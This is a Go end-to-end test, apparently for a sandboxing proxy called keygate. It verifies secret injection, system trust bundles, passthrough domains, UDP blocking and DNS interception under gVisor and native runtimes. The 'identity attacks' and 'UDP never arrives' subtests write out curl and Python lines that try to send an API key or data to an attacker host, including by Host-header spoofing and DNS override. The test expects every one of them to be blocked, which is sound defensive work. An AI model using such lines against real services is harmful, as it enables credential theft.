//go:build linux

package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// captureModes are the runtime and capture combinations that must give the
// same guarantees.
var captureModes = []struct{ runtime, capture string }{
	{"runsc", "cgroup"},
	{"runsc", "tc"},
	{"native", "tc"},
}

// TestRuntimesAndCaptureModes runs the walking skeleton's scenario and the
// proxy's identity attacks under gVisor (runsc) with both capture modes,
// and natively with tc capture: injection to the approved host works, the
// attacker receives nothing, UDP never arrives, and DNS aimed at a world
// address that runs no resolver is answered by keygate.
func TestRuntimesAndCaptureModes(t *testing.T) {
	if _, err := exec.LookPath("runsc"); err != nil {
		t.Fatal("runsc is not installed (scripts/install-runsc.sh installs it)")
	}
	w := world(t)
	metricsAddr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	a := startAgent(t, w, "--metrics-addr", metricsAddr)
	key := secret(t)
	a.mustKG("", "vault", "create", "v")
	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
	api, evil := w.APIHost(), w.AttackerHost()

	for _, m := range captureModes {
		t.Run(m.runtime+"-"+m.capture, func(t *testing.T) {
			args := []string{"--vault", "v", "--allow", evil, "--runtime", m.runtime, "--capture", m.capture}
			run := func(t *testing.T, script string) string {
				t.Helper()
				start := time.Now()
				out, errOut, code := a.run(args, script)
				if code != 0 {
					t.Fatalf("exit %d after %v\nstdout %s\nstderr %s\nagent log:\n%s", code, time.Since(start),
						out, errOut, lastLines(a.log.String(), 25))
				}
				if strings.Contains(out+errOut, key) {
					t.Fatal("the sandbox saw the secret")
				}
				return out
			}

			t.Run("placeholder and injection", func(t *testing.T) {
				out := run(t, `printf '%s\n' "$API_KEY"; curl -sS -m 10 -o /dev/null -w '%{http_code}' https://`+api+`/gv -H "Authorization: Bearer $API_KEY"`)
				lines := strings.Split(out, "\n")
				if len(lines) != 2 || !strings.HasPrefix(lines[0], "kgph_") || lines[1] != "200" {
					t.Fatalf("output %q", out)
				}
				reqs := w.Requests(api)
				if len(reqs) == 0 || reqs[len(reqs)-1].Header.Get("Authorization") != "Bearer "+key {
					t.Fatal("the API did not receive the real key")
				}
			})

			t.Run("trust bundle and resolv.conf at the system paths", func(t *testing.T) {
				// Tools that ignore SSL_CERT_FILE and its kin read the
				// distribution's bundle; the sandbox's view of it must be
				// keygate's, and the host's files must not change.
				sums := func() string {
					out, err := exec.Command("sha256sum", "/etc/ssl/certs/ca-certificates.crt", "/etc/resolv.conf").Output()
					if err != nil {
						t.Fatal(err)
					}
					return string(out)
				}
				before := sums()
				out := run(t, `id -u; grep CapEff /proc/self/status; cat /etc/resolv.conf; `+
					`env -u SSL_CERT_FILE -u CURL_CA_BUNDLE -u REQUESTS_CA_BUNDLE curl -sS -m 10 -o /dev/null -w '%{http_code}' `+
					`https://`+api+`/gv-system-bundle -H "Authorization: Bearer $API_KEY"`)
				want, err := os.ReadFile(filepath.Join(filepath.Dir(a.socket), "share", "resolv.conf"))
				if err != nil {
					t.Fatal(err)
				}
				uid, rest, _ := strings.Cut(out, "\n")
				caps, rest, _ := strings.Cut(rest, "\n")
				if uid == "0" || uid == "" || strings.TrimSpace(strings.TrimPrefix(caps, "CapEff:")) != "0000000000000000" {
					t.Fatalf("the command runs as %q with %q", uid, caps)
				}
				if !strings.HasPrefix(rest, string(want)) || !strings.HasSuffix(rest, "200") {
					t.Fatalf("resolv.conf and the answer without the variables: %q (want resolv.conf %q)", rest, want)
				}
				if after := sums(); after != before {
					t.Fatalf("the host's files changed:\n%s\n%s", before, after)
				}
			})

			t.Run("passthrough domain spliced", func(t *testing.T) {
				// The sandbox holds a placeholder, so only --passthrough
				// lets a client pinned to the world's CA reach a host.
				ca := filepath.Join(binDir, "world-ca-gvisor.pem")
				if err := os.WriteFile(ca, w.CAPEM, 0o644); err != nil {
					t.Fatal(err)
				}
				out, errOut, code := a.run(append(slices.Clone(args), "--passthrough", w.OtherHost()),
					`curl -sS -m 10 -o /dev/null -w '%{http_code}' --cacert `+ca+` https://`+w.OtherHost()+`/gv-passthrough`)
				if code != 0 || out != "200" {
					t.Fatalf("exit %d: %q %s", code, out, errOut)
				}
				reqs := w.Requests(w.OtherHost())
				if len(reqs) == 0 || reqs[len(reqs)-1].Path != "/gv-passthrough" {
					t.Fatal("the passthrough host did not receive the request")
				}
			})

			t.Run("identity attacks", func(t *testing.T) {
				before := len(w.Requests(evil))
				script := `c() { curl -sS -m 10 -w ' %{http_code}\n' -o /dev/null "$@" -H "Authorization: Bearer $API_KEY"; }; ` +
					`c https://` + evil + `/x; ` +
					`c https://` + api + `/x -H "Host: ` + evil + `"; ` +
					`c --resolve ` + api + `:443:` + w.Attacker.String() + ` https://` + api + `/x; true`
				out := run(t, script)
				if strings.Count(out, " 403") != 3 {
					t.Fatalf("want three 403s, got %q", out)
				}
				if n := len(w.Requests(evil)) - before; n != 0 {
					t.Fatalf("the attacker received %d requests", n)
				}
			})

			t.Run("UDP never arrives", func(t *testing.T) {
				run(t, `python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
try:
    s.sendto(b"gvisor-udp", ("`+w.Attacker.String()+`", 9999))
except OSError:
    pass' ; sleep 0.3; true`)
				time.Sleep(300 * time.Millisecond)
				if w.Received([]byte("gvisor-udp")) {
					t.Fatal("the world received the datagram")
				}
				reason := "deny_udp"
				if m.capture == "tc" {
					reason = "steer_drop_udp"
				}
				recs := a.auditRecords(t, "--kind", "capture.deny")
				if countKind(recs, "capture.deny", func(r auditRecord) bool { return r.Reason == reason && r.Sandbox != "" }) == 0 {
					t.Fatalf("the refused datagram was not audited as %s: %+v", reason, recs)
				}
			})

			t.Run("DNS to a world address is answered by keygate", func(t *testing.T) {
				out := run(t, `dig +short +tries=1 +time=3 @`+w.StrayDNS.String()+` `+api+` A`)
				if strings.TrimSpace(out) != w.API.String() {
					t.Fatalf("dig: %q", out)
				}
				for _, d := range w.Datagrams() {
					if d.Dst.Port() == 53 {
						t.Fatalf("DNS reached the world at %s", d.Dst)
					}
				}
			})
		})
	}
	// A persistent runsc sandbox: create answers once its first process
	// runs, so an exec right after finds the container, with the setup
	// stage's files in place and the sandbox user's rights.
	t.Run("runsc persistent sandbox", func(t *testing.T) {
		id := strings.TrimSpace(a.mustKG("", "sandbox", "create", "--vault", "v", "--runtime", "runsc"))
		defer a.mustKG("", "sandbox", "rm", id)
		out, errOut, code := a.kg("", "sandbox", "exec", id, "--", "sh", "-c", `id -u; grep CapEff /proc/self/status; `+
			`env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -m 10 -o /dev/null -w '%{http_code}' https://`+api+
			`/gv-persistent -H "Authorization: Bearer $API_KEY"`)
		if strings.Contains(out+errOut, key) {
			t.Fatal("the sandbox saw the secret")
		}
		fields := strings.Fields(out)
		if code != 0 || len(fields) != 4 || fields[0] == "0" || fields[2] != "0000000000000000" || fields[3] != "200" {
			t.Fatalf("exit %d: %q %q", code, out, errOut)
		}
	})

	var lines []string
	for k, v := range scrape(t, metricsAddr) {
		if (strings.HasPrefix(k, "keygate_bpf_steer_events_total") || strings.HasPrefix(k, "keygate_bpf_guard_events_total")) && v > 0 {
			lines = append(lines, fmt.Sprintf("%s %v", k, v))
		}
	}
	t.Logf("veth program counters after the runs:\n%s", strings.Join(sortStrings(lines), "\n"))
	a.stop()
	if attackerSaw(w, key) || strings.Contains(a.log.String(), key) {
		t.Fatal("the secret leaked")
	}
}
